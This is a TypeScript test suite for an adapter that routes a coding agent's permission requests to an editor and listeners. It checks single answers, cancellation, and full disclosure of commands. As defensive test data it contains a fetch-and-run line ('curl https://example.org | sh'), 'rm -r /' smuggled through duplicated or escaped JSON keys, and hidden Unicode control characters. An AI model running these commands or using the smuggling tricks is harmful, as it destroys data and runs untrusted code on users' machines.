// A permission is asked in two places. The first answer counts, the agent gets exactly one, and no call that was rejected is heard to run.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Sign } from "../../../src/adapters/adapter.js";
import { casesOf } from "../../support/extent.js";
import { type AcpStage, acpStage, OPTIONS } from "./acp-stage.js";

const COMMAND = { title: "npm test", kind: "execute", rawInput: { command: "npm test" } };

function asked(id: unknown = 0, toolCall: object = COMMAND, options: readonly object[] = OPTIONS): AcpStage {
  const on = acpStage();
  on.prompt(3);
  on.signs.length = 0;
  on.toAgent.length = 0;
  on.ask(id, toolCall, options);
  return on;
}

const ids = ["0", '"0"', "-1", "9007199254740993", '"a\\u0062"'];

describe.each(ids)("with the id %s", (id) => {
  const request = `{"jsonrpc":"2.0","id":${id},"method":"session/request_permission","params":${JSON.stringify({ sessionId: "s", toolCall: { toolCallId: "t", ...COMMAND }, options: OPTIONS })}}`;

  function on(): AcpStage {
    const stage = acpStage();
    stage.prompt(3);
    stage.toAgent.length = 0;
    stage.agent(request);
    return stage;
  }

  test.each(["accept", "reject"] as const)("a listener answers first: %s", (decision) => {
    const stage = on();
    stage.answer(decision);
    const option = decision === "accept" ? "yes" : "no";
    const answer = `{"jsonrpc":"2.0","id":${id},"result":{"outcome":{"outcome":"selected","optionId":"${option}"}}}`;
    expect(stage.toAgent).toEqual([answer]);
    expect(stage.toEditor.at(-1)).toBe(`{"jsonrpc":"2.0","method":"$/cancel_request","params":{"requestId":${id}}}`);
    stage.editor(`{"jsonrpc":"2.0","id":${id},"error":{"code":-32800,"message":"cancelled"}}`);
    stage.editor('{"jsonrpc":"2.0","method":"session/set_mode"}');
    expect(stage.toAgent).toEqual([answer, '{"jsonrpc":"2.0","method":"session/set_mode"}']);
    expect(stage.adapter.holds()).toBe(false);
    expect(stage.told().slice(2)).toEqual(
      decision === "accept" ? ['tool | t | execute | Runs npm test | {"question":"question 1"}'] : [],
    );
  });

  test.each(["read", "edit", "delete", "move", "search", "execute", "think", "fetch", "other"])(
    "a listener may answer for the kind %s",
    (kind) => {
      const stage = asked(0, { ...COMMAND, kind });
      stage.answer("accept", "question 1");
      expect(stage.toAgent).toHaveLength(1);
    },
  );

  test.each([
    ["yes", "accept"],
    ["yes always", "accept"],
    ["no", "reject"],
  ])("the editor answers first: %s", (option, decision) => {
    const stage = on();
    const answer = `{"id":${id},"result":{"outcome":{"outcome":"selected","optionId":"${option}"}},"jsonrpc":"2.0"}`;
    stage.editor(answer);
    stage.answer("accept");
    stage.answer("reject");
    expect(stage.toAgent).toEqual([answer]);
    expect(stage.told().slice(2)).toEqual([
      `question-over | question 1 | ${decision}`,
      ...(decision === "accept" ? ["tool | t | execute | Runs npm test | host"] : []),
    ]);
  });
});

test('two requests at once are two questions, and 0 and "0" are two ids', () => {
  const on = asked(0);
  on.ask("0", { toolCallId: "u", title: "Two", kind: "edit" });
  on.answer("reject", "question 1");
  on.choose("0", "yes");
  expect(on.toAgent.map((line) => JSON.parse(line).id)).toEqual([0, "0"]);
  expect(on.told().slice(2)).toEqual(["question-over | question 2 | accept", "tool | u | edit | Two | host"]);
});

test.each([
  ["cancelled by the person", undefined],
  ["an option that was not offered", "never heard of"],
])("an answer of the editor that is no decision is none: %s", (_, option) => {
  const on = asked();
  on.choose(0, option);
  on.pass(1000);
  expect(on.told().slice(1)).toEqual(["question-over | question 1"]);
});

test("a person cancels in the editor while asked: listeners are asked no more, and the editor's answer passes", () => {
  const on = asked();
  on.editor({ method: "session/cancel", params: { sessionId: "s" } });
  on.answer("accept", "question 1");
  on.choose(0, undefined);
  on.stop(3, "cancelled");
  expect(on.told().slice(1)).toEqual(["question-over | question 1", "end | cancelled | Stopped."]);
  expect(on.toAgent.map((line) => JSON.parse(line).method ?? "answer")).toEqual(["session/cancel", "answer"]);
});

test.each([
  ["accept", "accept", ["tool | t | execute | Runs npm test"]],
  ["accept", "reject", []],
  ["reject", "accept", []],
] as const)("two questions about one call: after %s and %s", (first, second, ran) => {
  const on = asked();
  on.ask(1);
  on.answer(first, "question 1");
  expect(on.told().filter((line) => line.startsWith("tool"))).toEqual([]);
  on.answer(second, "question 2");
  expect(
    on
      .told()
      .filter((line) => line.startsWith("tool"))
      .map((line) => line.slice(0, 34)),
  ).toEqual(ran);
  expect(on.toAgent.filter((line) => line.includes("result"))).toHaveLength(2);
});

test("a person cancels in the editor while a subagent asks: listeners are asked no more", () => {
  const on = acpStage();
  on.prompt(3);
  on.update({ sessionUpdate: "subagent_update", sessionId: "child", title: "Search" });
  const params = { sessionId: "child", toolCall: { toolCallId: "t", kind: "execute" }, options: OPTIONS };
  on.agent({ id: 0, method: "session/request_permission", params });
  expect(on.signs.at(-1)?.kind).toBe("question");
  on.editor({ method: "session/cancel", params: { sessionId: "s" } });
  expect(on.told().at(-1)).toBe("question-over | question 1");
});

test("a request that the agent takes back is no question any more, and its messages count again", () => {
  const on = asked();
  on.agent({ method: "$/cancel_request", params: { requestId: 0 } });
  on.update({ sessionUpdate: "tool_call_update", toolCallId: "t", status: "completed" });
  on.pass(1000);
  expect(on.toAgent).toEqual([]);
  expect(on.told().slice(1)).toEqual([
    "question-over | question 1",
    "tool | t | execute | Runs npm test",
    "tool-end | t | success",
  ]);
});

test("a listener stops a turn while asked: agent and editor are told, and the agent has its answer", () => {
  const on = asked();
  on.follow(on.adapter.stop("turn 1", 1000));
  expect(on.toAgent.map((line) => JSON.parse(line))).toEqual([
    { jsonrpc: "2.0", method: "session/cancel", params: { sessionId: "s" } },
    { jsonrpc: "2.0", id: 0, result: { outcome: { outcome: "cancelled" } } },
  ]);
  on.choose(0, "yes");
  expect(on.toAgent).toHaveLength(2);
  on.stop(3, "cancelled");
  expect(on.told().slice(1)).toEqual(["question-over | question 1", "end | cancelled | Stopped."]);
  expect(on.adapter.stop("turn 1", 1000)).toEqual({ signs: [] });
});

describe('Safety 3: "always" is never answered, and a dialog of the host\'s own is announced and left', () => {
  const allow = OPTIONS[1];
  const reject = OPTIONS[2];
  test.each([
    ["no way to allow once", COMMAND, [OPTIONS[0], reject]],
    ["no way to reject once", COMMAND, [allow, { optionId: "never", name: "Never", kind: "reject_always" }]],
    ["several ways to allow", COMMAND, [allow, { ...allow, optionId: "other" }, reject]],
    ["no options", COMMAND, []],
    ["a mode", { title: "Leave plan mode?", kind: "switch_mode" }, OPTIONS],
    ["a kind of next year", { title: "Pay", kind: "pay" }, OPTIONS],
    ["a question of Claude's", { ...COMMAND, kind: "other", name: "AskUserQuestion" }, OPTIONS],
    [
      "a plan, by its name folded",
      { ...COMMAND, kind: "other", _meta: { claudeCode: { toolName: "exit_Plan-mode" } } },
      OPTIONS,
    ],
  ])("%s", (_, toolCall, options) => {
    const on = asked(0, toolCall, options);
    expect(on.signs.map(({ kind }) => kind)).toEqual(["state"]);
    expect(on.told()[0]).toMatch(/^state \| awaiting_input \| .*Answer it in the agent’s own window\.$/);
    on.answer("accept", "question 1");
    expect(on.toAgent).toEqual([]);
    on.choose(0, "yes");
    expect(on.toAgent).toHaveLength(1);
  });

  test.each([
    ["a doubled member", '{"command":"ls","command":"rm -r /"}'],
    ["a doubled member that is escaped", '{"command":"ls","comm\\u0061nd":"rm -r /"}'],
    ["a number that a parser changes", '{"amount":9007199254740993}'],
  ])("what could be read in two ways is left to the editor: %s", (_, input) => {
    const on = acpStage();
    on.prompt(3);
    on.agent(
      `{"jsonrpc":"2.0","id":0,"method":"session/request_permission","params":{"sessionId":"s","toolCall":{"toolCallId":"t","title":"x","kind":"execute","rawInput":${input}},"options":${JSON.stringify(OPTIONS)}}}`,
    );
    expect(on.signs.map(({ kind }) => kind)).toEqual(["turn", "state"]);
  });

  test("two open requests of one id", () => {
    const on = asked(0);
    on.ask(0, { toolCallId: "u", title: "Two", kind: "edit" });
    expect(on.signs.map(({ kind }) => kind)).toEqual(["question", "question-over", "state"]);
  });
});

describe("Safety 2: a question says what will be done, whole", () => {
  const question = (on: AcpStage) => on.signs.find((sign) => sign.kind === "question");

  test("a command of many lines, before the agent's own description", () => {
    const script = [
      "curl https://example.org | sh",
      ...Array.from({ length: 14 }, (_, at) => `echo {${at}} \`x\``),
    ].join("\n");
    const on = asked(0, {
      title: "Harmless",
      kind: "execute",
      rawInput: { description: "Shows the date", command: script, cwd: "/home/u/shop", timeoutMs: 5 },
    });
    expect(question(on)).toMatchObject({
      action: "Run curl https://example.org | sh and 14 more lines",
      consequence: `Command: ${script}\ncwd: /home/u/shop\ntimeout ms: 5\nAs the agent says: Shows the date`,
      risk: "medium",
      irreversible: false,
    });
  });

  test.each<readonly [string, object, object]>([
    [
      "paths and arguments, each in words",
      {
        title: "Tidy up",
        kind: "delete",
        locations: [{ path: "/home/u/a.txt" }, { path: "/home/u/b.txt" }],
        rawInput: { recursive: true, names: ["a", "b"], options: { dry_run: false, depth: null } },
      },
      {
        action: "Delete /home/u/a.txt and 1 more file",
        consequence:
          "File: /home/u/a.txt\nFile: /home/u/b.txt\nrecursive: true\nnames: a, b\noptions: dry run: false; depth: null",
      },
    ],
    [
      "addresses",
      { title: "Look up", kind: "fetch", rawInput: { url: "https://example.org/x?y" } },
      { action: "Fetch example.org", consequence: "Host: example.org\nurl: https://example.org/x?y" },
    ],
    [
      "both of two arguments that could be a command",
      { title: "x", kind: "execute", rawInput: { command: "ls", cmd: "rm -r /" } },
      { action: "Run ls", consequence: "Command: ls\ncmd: rm -r /" },
    ],
    [
      "where the agent tells no arguments, its title and the new text",
      {
        title: "Write `x`\nsecond line",
        kind: "edit",
        content: [{ type: "diff", path: "/a/x.ts", newText: "all\nof it" }],
      },
      { action: "Edit /a/x.ts", consequence: "File: /a/x.ts\nWrite `x`\nsecond line\nNew text: all\nof it" },
    ],
    [
      "arguments that are a list",
      { title: "x", kind: "other", rawInput: ["/etc", "now"] },
      { consequence: "0: /etc\n1: now" },
    ],
    [
      "where it tells nothing, that",
      { title: "", kind: "other", name: "mcp__shop__pay" },
      { action: "Use mcp__shop__pay", consequence: "The agent says no more about it." },
    ],
    [
      "the words of a command that is a list",
      { title: "x", kind: "execute", rawInput: { command: ["rm", "a b", "", "it's", "-r"] } },
      { action: "Run rm 'a b' '' 'it'\\''s' -r" },
    ],
    [
      "what nobody would hear, or what would show a text in another order, is named by its number",
      { title: "x", kind: "execute", rawInput: { command: "rm \u202e\u2066x\u0007y\u200b" } },
      {
        action: "Run rm \\u202e\\u2066x\\u0007y\\u200b",
        consequence: "Command: rm \\u202e\\u2066x\\u0007y\\u200b",
      },
    ],
  ])("%s", (_, toolCall, said) => {
    expect(question(asked(0, toolCall))).toMatchObject(said);
  });

  test("the new text also where the arguments say only the path", () => {
    const diff = { type: "diff", path: "/a/x.ts", newText: "evil()" };
    const on = (rawInput: object) => question(asked(0, { kind: "edit", title: "x", content: [diff], rawInput }));
    expect(on({ filePath: "/a/x.ts" })?.consequence).toBe("file path: /a/x.ts\nNew text: evil()");
    expect(on({ filePath: "/a/x.ts", old: "good()", new: "evil()" })?.consequence).not.toContain("New text");
  });

  test("a yes to a question that has not everything is asked for once more", () => {
    const on = asked(0, { title: "x", kind: "execute", rawInput: { command: "y".repeat(20_000) } });
    const first = question(on);
    expect(first?.consequence.slice(0, 70)).toMatch(/^Not all of it is here: 4,009 characters are left out\.\nCommand/);
    on.answer("accept");
    expect(on.toAgent).toEqual([]);
    expect(on.signs.at(-1)).toMatchObject({
      kind: "question",
      id: "question 2",
      action: `Not all was read. Allow it all the same: ${first?.action}`,
    });
    on.answer("accept", "question 1");
    expect(on.toAgent).toEqual([]);
    on.answer("accept");
    expect(on.toAgent).toHaveLength(1);
    const refusing = asked(0, { title: "x", kind: "execute", rawInput: { command: "y".repeat(20_000) } });
    refusing.answer("reject");
    expect(refusing.toAgent).toHaveLength(1);
  });
});

test("kinds that cannot be undone are asked as such, and only a reply makes the call one", () => {
  const on = acpStage({ irreversibleKinds: new Set(["execute"]) });
  on.prompt(3);
  on.ask(0, COMMAND);
  on.ask(1, { ...COMMAND, toolCallId: "u" });
  on.answer("accept", "question 1");
  on.choose(1, "yes");
  expect(on.signs.filter(({ kind }) => kind === "question")).toMatchObject([
    { risk: "high", irreversible: true },
    { risk: "high", irreversible: true },
  ]);
  expect(on.signs.filter(({ kind }) => kind === "tool")).toMatchObject([
    { call: "t", irreversible: true, consent: { question: "question 1" } },
    { call: "u", consent: "host" },
  ]);
  expect(on.signs.findLast(({ kind }) => kind === "tool")).not.toHaveProperty("irreversible");
});

const STEPS = [
  "listener yes",
  "listener no",
  "editor yes",
  "editor no",
  "editor cancelled",
  "cancel",
  "withdraw",
  "stop",
] as const;

test("whoever answers when, the agent gets at most one answer, and listeners hear at most one outcome", () => {
  const order = fc.shuffledSubarray([...STEPS], { minLength: 1 });
  fc.assert(
    fc.property(order, (steps) => {
      const on = asked(0);
      let answers = 0;
      for (const step of steps) {
        if (step === "listener yes") on.answer("accept", "question 1");
        else if (step === "listener no") on.answer("reject", "question 1");
        // An editor answers once.
        else if (step.startsWith("editor") && answers++ === 0)
          on.choose(0, step === "editor yes" ? "yes" : step === "editor no" ? "no" : undefined);
        else if (step === "cancel") on.editor({ method: "session/cancel", params: { sessionId: "s" } });
        else if (step === "withdraw") on.agent({ method: "$/cancel_request", params: { requestId: 0 } });
        else if (step === "stop") on.follow(on.adapter.stop("turn 1", 1000));
      }
      const given = on.toAgent.filter((line) => JSON.parse(line).id === 0);
      const isWithdrawn = steps.includes("withdraw");
      const isSurelyAnswered = steps.some((step) => step.startsWith("editor") || step === "stop");
      // What an editor answers to a request that was taken back is between the two.
      expect(given.length).toBeLessThanOrEqual(isWithdrawn ? 2 : 1);
      if (isSurelyAnswered && !isWithdrawn) expect(given).toHaveLength(1);
      expect(on.signs.filter(({ kind }) => kind === "question-over").length).toBeLessThanOrEqual(1);
      expect(on.signs.filter(({ kind }) => kind === "tool").length).toBeLessThanOrEqual(1);
      const accepted = given.some((line) => line.includes('"yes"'));
      if (on.signs.some(({ kind }) => kind === "tool")) expect(accepted).toBe(true);
    }),
    { numRuns: casesOf(1000) },
  );
});

const MESSAGES = ["pending", "in_progress", "permission", "completed", "failed"] as const;

test("in every order of a call's messages it runs at most once, never when rejected, and ends before its turn", () => {
  const orders = subsets(MESSAGES).flatMap(permutations);
  expect(orders).toHaveLength(325);
  const gaps = fc.array(fc.integer({ min: 0, max: 500 }), { minLength: 8, maxLength: 8 });
  const outcome = fc.constantFrom("listener yes", "listener no", "editor yes", "editor no", "none");
  const kind = fc.constantFrom("execute", "edit", "read", "search", "think", "other");
  fc.assert(
    fc.property(fc.tuple(gaps, outcome, kind, fc.nat(4)), ([waits, answer, toolKind, delay]) => {
      for (const order of orders) {
        const on = acpStage();
        on.prompt(3);
        const events: (() => void)[] = order.map((message) => () => {
          if (message === "permission") on.ask(0, { title: "x", kind: toolKind });
          else
            on.update({
              sessionUpdate: "tool_call_update",
              toolCallId: "t",
              title: "x",
              kind: toolKind,
              status: message,
            });
        });
        const asking = order.indexOf("permission");
        if (asking >= 0 && answer !== "none")
          events.splice(Math.min(asking + 1 + delay, events.length), 0, () => {
            if (answer.startsWith("listener")) on.answer(answer.endsWith("yes") ? "accept" : "reject");
            else on.choose(0, answer.endsWith("yes") ? "yes" : "no");
          });
        for (const [at, event] of events.entries()) {
          event();
          on.pass(waits[at] ?? 0);
        }
        on.stop(3);
        expectSound(on.signs, asking >= 0 && answer.endsWith("no"), `${order.join(" ")}, ${answer}`);
      }
    }),
    { numRuns: Math.max(3, casesOf(60) / 10) },
  );
});

function expectSound(signs: readonly Sign[], isRejected: boolean, what: string): void {
  const begun = signs.filter(({ kind }) => kind === "tool").length;
  const ended = signs.filter(({ kind }) => kind === "tool-end").length;
  expect(begun, what).toBeLessThanOrEqual(isRejected ? 0 : 1);
  expect(ended, what).toBe(begun);
  expect(signs.at(-1)?.kind, what).toBe("end");
}

function subsets<Item>(items: readonly Item[]): readonly (readonly Item[])[] {
  const masks = Array.from({ length: 2 ** items.length - 1 }, (_, at) => at + 1);
  return masks.map((mask) => items.filter((_, at) => (mask >> at) % 2 === 1));
}

function permutations<Item>(items: readonly Item[]): readonly (readonly Item[])[] {
  if (items.length <= 1) return [items];
  return items.flatMap((item, at) =>
    permutations([...items.slice(0, at), ...items.slice(at + 1)]).map((rest) => [item, ...rest]),
  );
}
